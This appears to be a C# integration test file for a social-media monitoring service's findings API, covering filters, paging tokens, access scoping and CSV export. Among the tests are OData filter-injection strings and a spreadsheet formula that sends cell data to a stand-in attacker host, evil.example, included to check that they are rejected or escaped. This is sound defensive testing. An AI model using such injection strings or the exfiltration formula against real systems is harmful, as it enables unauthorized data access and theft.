using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using SocialMonitor.IntegrationTests.Support;

namespace SocialMonitor.IntegrationTests.Api;

/// <summary><c>GET /api/findings</c> and its summary over HTTP: every filter, injections, continuation, CSV.</summary>
public sealed class FindingsListApiTests(AzuriteFixture azurite) : IClassFixture<AzuriteFixture>
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    public static TheoryData<string, int> Filters => new()
    {
        { "location=rathdrum", 2 },
        { "location=hayden,rathdrum", 6 },
        { "location=hayden&location=bookmobile", 5 },
        { "account=cln-hayden-ig", 1 },
        { "platform=instagram", 1 },
        { "platform=system", 1 },
        { "family=link-domain", 2 },
        { "family=capture", 2 },
        { "rule=conduct.threat", 1 },
        { "rule=conduct.threat,pii.phone", 2 },
        { "severity=critical", 1 },
        { "severity=high", 3 },
        { "status=open", 8 },
        { "status=dismissed", 0 },
        { "from=2026-10-15T14:00:00Z", 5 },
        { "to=2026-10-15T14:00:00Z", 3 },
        { "from=2026-10-15T12:00:00Z&to=2026-10-15T16:00:00Z", 4 },
        { "from=2026-10-16", 0 },
        { "location=hayden&family=link-domain&severity=medium&platform=facebook&account=cln-hayden-fb&status=open", 1 },
    };

    /// <summary>Each filter with the OData an attacker would try: quotes, or, other operators.</summary>
    public static TheoryData<string> Injections => new(
        "location=hayden' or PartitionKey ne '",
        "location=x') or (true",
        "account=x' or Account ne 'x",
        "platform=facebook' or Platform ne '",
        "family=conduct' or Family gt '",
        "rule=conduct.threat' or Rule ne 'x",
        "severity=low' or Severity ne 'x",
        "status=open' or Status ne 'x",
        "from=2026-01-01' or RowKey ne '",
        "to=datetime'2026-01-01T00:00:00Z'",
        "location=hayden%00",
        "rule=conduct.threat) or (1 eq 1");

    [Theory]
    [MemberData(nameof(Filters))]
    public async Task GetFindings_Filter_ReturnsExactlyTheMatches(string query, int expected)
    {
        await using var api = await StartAsync();

        var items = await AllAsync(api, ApiHost.CoordinatorKey, query, pageSize: 2);

        Assert.Equal(expected, items.Count);
        Assert.Equal(items.Select(f => f.GetProperty("firstSeen").GetString()).OrderDescending(StringComparer.Ordinal), items.Select(f => f.GetProperty("firstSeen").GetString()));
    }

    [Theory]
    [MemberData(nameof(Injections))]
    public async Task GetFindings_InjectionInFilter_ReturnsNothingItShouldNot(string query)
    {
        await using var api = await StartAsync();
        using var manager = api.Client(ApiHost.HaydenKey);
        using var coordinator = api.Client(ApiHost.CoordinatorKey);

        var asManager = await manager.GetAsync($"/api/findings?{query}", Ct);
        var asCoordinator = await coordinator.GetAsync($"/api/findings?{query}", Ct);
        var summary = await manager.GetAsync($"/api/findings/summary?{query}", Ct);

        foreach (var response in new[] { asManager, asCoordinator })
        {
            var body = await response.Content.ReadFromJsonAsync<JsonElement>(Ct);
            Assert.True(response.StatusCode == HttpStatusCode.BadRequest || body.GetProperty("items").GetArrayLength() == 0, $"{query} returned findings");
        }
        Assert.Equal(HttpStatusCode.BadRequest, asManager.StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, summary.StatusCode);
        Assert.Contains(query.Split('=')[0], await asManager.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("status=closed", "status")]
    [InlineData("severity=urgent", "severity")]
    [InlineData("rule=Conduct", "rule")]
    [InlineData("from=yesterday", "from")]
    [InlineData("from=2026-10-15&to=2026-10-01", "to")]
    [InlineData("pageSize=201", "pageSize")]
    [InlineData("pageSize=0", "pageSize")]
    [InlineData("loaction=hayden", "loaction")]
    [InlineData("format=xml", "format")]
    [InlineData("status=open&status=open&status=acknowledged&pageSize=1&pageSize=2", "pageSize")]
    public async Task GetFindings_BadParameter_Is400NamingIt(string query, string named)
    {
        await using var api = await StartAsync();
        using var client = api.Client(ApiHost.CoordinatorKey);

        var response = await client.GetAsync($"/api/findings?{query}", Ct);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var problem = await response.Content.ReadFromJsonAsync<JsonElement>(Ct);
        Assert.Equal("urn:socialmonitor:problem:invalid-parameter", problem.GetProperty("type").GetString());
        Assert.Contains($"'{named}'", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("location=haydn", "Query parameter 'location' names no location: there is no location 'haydn' (did you mean 'hayden'?).")]
    [InlineData("location=hayden,nowhere", "there is no location 'nowhere'.")]
    [InlineData("account=cln-hayden-igg", "Query parameter 'account' names no account: there is no account 'cln-hayden-igg' (did you mean 'cln-hayden-ig'?).")]
    public async Task GetFindings_UnknownLocationOrAccount_Is400NamingItWithTheNearOne(string query, string detail)
    {
        await using var api = await StartAsync();
        using var client = api.Client(ApiHost.CoordinatorKey);

        var list = await client.GetAsync($"/api/findings?{query}", Ct);
        var summary = await client.GetAsync($"/api/findings/summary?{query}", Ct);

        foreach (var response in new[] { list, summary })
        {
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            var problem = await response.Content.ReadFromJsonAsync<JsonElement>(Ct);
            Assert.Equal("urn:socialmonitor:problem:invalid-parameter", problem.GetProperty("type").GetString());
            Assert.Contains(detail, problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("from=2026-10-15&to=2026-10-15", "2026-10-15T07:00:00Z", "2026-10-16T07:00:00Z")]
    [InlineData("to=2026-10-15", null, "2026-10-16T07:00:00Z")]
    [InlineData("from=2026-10-15T14:00:00Z&to=2026-10-15", "2026-10-15T14:00:00Z", "2026-10-16T07:00:00Z")]
    public async Task GetFindings_DateWithoutTime_IsTheWholeLibraryDayAndToIncludesIt(string query, string? from, string to)
    {
        await using var api = await StartAsync();

        var all = await AllAsync(api, ApiHost.CoordinatorKey, "", pageSize: 200);
        var filtered = await AllAsync(api, ApiHost.CoordinatorKey, query, pageSize: 200);

        var start = from is null ? DateTimeOffset.MinValue : DateTimeOffset.Parse(from, System.Globalization.CultureInfo.InvariantCulture);
        var end = DateTimeOffset.Parse(to, System.Globalization.CultureInfo.InvariantCulture);
        var expected = all.Select(f => f.GetProperty("id").GetString()).Where((_, i) =>
            all[i].GetProperty("firstSeen").GetDateTimeOffset() is var seen && seen >= start && seen < end).ToList();
        Assert.NotEmpty(expected);
        Assert.Equal(expected, filtered.Select(f => f.GetProperty("id").GetString()));
    }

    [Theory]
    [InlineData("pageSize=1", "pageSize=1&location=hayden")]
    [InlineData("pageSize=1&status=open", "pageSize=1&status=open,acknowledged")]
    [InlineData("pageSize=1&rule=link-domain.unapproved", "pageSize=1&rule=conduct.threat")]
    [InlineData("pageSize=1&from=2026-10-01", "pageSize=1&from=2026-10-02")]
    public async Task GetFindings_ContinuationTokenOfAnotherFilter_IsRefused(string first, string second)
    {
        await using var api = await StartAsync();
        using var client = api.Client(ApiHost.CoordinatorKey);
        var page = await client.GetFromJsonAsync<JsonElement>($"/api/findings?{first}", Ct);
        var token = Uri.EscapeDataString(page.GetProperty("continuationToken").GetString()!);

        var same = await client.GetAsync($"/api/findings?{first}&continuationToken={token}", Ct);
        var other = await client.GetAsync($"/api/findings?{second}&continuationToken={token}", Ct);

        Assert.Equal(HttpStatusCode.OK, same.StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, other.StatusCode);
        Assert.Equal("urn:socialmonitor:problem:invalid-continuation-token",
            (await other.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("type").GetString());
    }

    [Fact]
    public async Task GetFindings_CoordinatorsTokenForManager_IsRefused()
    {
        await using var api = await StartAsync();
        using var coordinator = api.Client(ApiHost.CoordinatorKey);
        using var manager = api.Client(ApiHost.HaydenKey);
        var page = await coordinator.GetFromJsonAsync<JsonElement>("/api/findings?pageSize=1", Ct);

        var response = await manager.GetAsync($"/api/findings?pageSize=1&continuationToken={page.GetProperty("continuationToken").GetString()}", Ct);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
    }

    [Theory]
    [InlineData("format=csv", null)]
    [InlineData("", "text/csv")]
    [InlineData("", "application/json;q=0.5, text/csv")]
    public async Task GetFindings_Csv_IsRfc4180WithFormulaEscaped(string query, string? accept)
    {
        await using var api = await StartAsync();
        using var client = api.Client(ApiHost.CoordinatorKey);
        if (accept is not null)
        {
            client.DefaultRequestHeaders.Add("Accept", accept);
        }

        var response = await client.GetAsync($"/api/findings?pageSize=3&{query}", Ct);
        var csv = await response.Content.ReadAsStringAsync(Ct);

        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.True(response.Headers.Contains("X-Continuation-Token"));
        var lines = csv.Split("\r\n");
        Assert.Equal(5, lines.Length);
        Assert.Equal("", lines[^1]);
        Assert.StartsWith("id,firstSeen,lastSeen,location,account,platform,rule,family,severity,status,clause,itemId,permalink,evidence,", lines[0], StringComparison.Ordinal);
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/steal?c=\"\"&A1,\"\"click\"\")\",", lines[3], StringComparison.Ordinal);
        Assert.DoesNotContain(",=", csv, StringComparison.Ordinal);
    }

    [Fact]
    public async Task GetFindings_AcceptJson_IsJson()
    {
        await using var api = await StartAsync();
        using var client = api.Client(ApiHost.CoordinatorKey);
        client.DefaultRequestHeaders.Add("Accept", "application/json, text/csv;q=0.1");

        var response = await client.GetAsync("/api/findings", Ct);

        Assert.Equal("application/json", response.Content.Headers.ContentType?.MediaType);
    }

    [Fact]
    public async Task GetSummary_Manager_CountsOwnLocationsByFamilyAndStatus()
    {
        await using var api = await StartAsync();
        using var manager = api.Client(ApiHost.HaydenKey);
        using var coordinator = api.Client(ApiHost.CoordinatorKey);

        var own = await manager.GetFromJsonAsync<JsonElement>("/api/findings/summary", Ct);
        var all = await coordinator.GetFromJsonAsync<JsonElement>("/api/findings/summary?severity=high", Ct);

        Assert.Equal(4, own.GetProperty("total").GetInt32());
        Assert.Equal("""{"hayden":4}""", own.GetProperty("byLocation").GetRawText());
        Assert.Equal("""{"capture":1,"conduct":1,"link-domain":1,"pii":1}""", own.GetProperty("byFamily").GetRawText());
        Assert.Equal(4, own.GetProperty("byStatus").GetProperty("open").GetInt32());
        Assert.Equal(JsonValueKind.Null, own.GetProperty("medianTimeToAcknowledge").ValueKind);
        Assert.Equal(3, all.GetProperty("total").GetInt32());
        Assert.Equal(4, own.GetProperty("byRule").EnumerateObject().Sum(p => p.Value.GetInt32()));
        Assert.Equal(4, own.GetProperty("bySeverity").EnumerateObject().Sum(p => p.Value.GetInt32()));
        Assert.Equal(4, own.GetProperty("byAccount").EnumerateObject().Sum(p => p.Value.GetInt32()));
        Assert.Equal(3, all.GetProperty("bySeverity").GetProperty("high").GetInt32());
        Assert.Equal(0, own.GetProperty("takenUp").GetInt32());
    }

    [Fact]
    public async Task GetSummary_Csv_HasEveryCountAsARow()
    {
        await using var api = await StartAsync();
        using var coordinator = api.Client(ApiHost.CoordinatorKey);

        var json = await coordinator.GetFromJsonAsync<JsonElement>("/api/findings/summary", Ct);
        var response = await coordinator.GetAsync("/api/findings/summary?format=csv", Ct);
        var lines = (await response.Content.ReadAsStringAsync(Ct)).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("what,key,value", lines[0]);
        Assert.Contains($"total,,{json.GetProperty("total").GetInt32()}", lines);
        foreach (var (what, property) in new[] { ("severity", "bySeverity"), ("rule", "byRule"), ("account", "byAccount"), ("status", "byStatus") })
        {
            Assert.All(json.GetProperty(property).EnumerateObject(), p => Assert.Contains($"{what},{p.Name},{p.Value.GetInt32()}", lines));
        }
    }

    private async Task<ApiHost> StartAsync()
    {
        var api = await ApiHost.StartAsync(azurite, ApiHost.Serve, Ct);
        await ApiData.SeedAsync(api.Services, Ct);
        return api;
    }

    private static async Task<List<JsonElement>> AllAsync(ApiHost api, string key, string query, int pageSize)
    {
        using var client = api.Client(key);
        var items = new List<JsonElement>();
        string? token = null;
        do
        {
            var next = token is null ? "" : $"&continuationToken={Uri.EscapeDataString(token)}";
            var response = await client.GetAsync($"/api/findings?pageSize={pageSize}&{query}{next}", Ct);
            Assert.True(response.IsSuccessStatusCode, await response.Content.ReadAsStringAsync(Ct));
            var page = await response.Content.ReadFromJsonAsync<JsonElement>(Ct);
            items.AddRange(page.GetProperty("items").EnumerateArray());
            token = page.GetProperty("continuationToken").GetString();
        }
        while (token is not null);
        return items;
    }
}
